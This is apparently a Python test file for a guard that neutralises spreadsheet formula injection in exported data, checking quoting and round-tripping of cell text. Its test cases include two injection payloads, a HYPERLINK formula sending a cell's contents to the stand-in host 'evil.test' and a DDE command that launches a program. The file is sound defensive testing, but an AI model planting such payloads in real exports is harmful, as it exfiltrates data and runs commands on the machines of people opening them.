"""What an export writes is run by no spreadsheet, and comes back as it was."""

from __future__ import annotations

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sf_pipelines.lake.formula_guard import guarded, unguarded, without_guards

TEXTS = st.one_of(st.text(), st.from_regex(r"'*[=+\-@\t\r]?'*[0-9=.,]*", fullmatch=True))


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.test?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"],
)
def test_a_formula_is_marked(formula: str) -> None:
    assert guarded(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["", "Acme", "-5", "+4.5", "-1,5", "-1e5", "a=b", "'tis", "12"])
def test_what_is_no_formula_stays_as_it_is(plain: str) -> None:
    assert guarded(plain) == plain


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(TEXTS)
def test_no_cell_begins_like_a_formula_but_a_number(text: str) -> None:
    cell = guarded(text)

    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell.replace(",", "."))


def test_empty_cells_stay_empty() -> None:
    batch = pa.RecordBatch.from_pydict({"Name": ["'=1", None, "Acme"]})

    assert without_guards(batch).to_pydict() == {"Name": ["=1", None, "Acme"]}
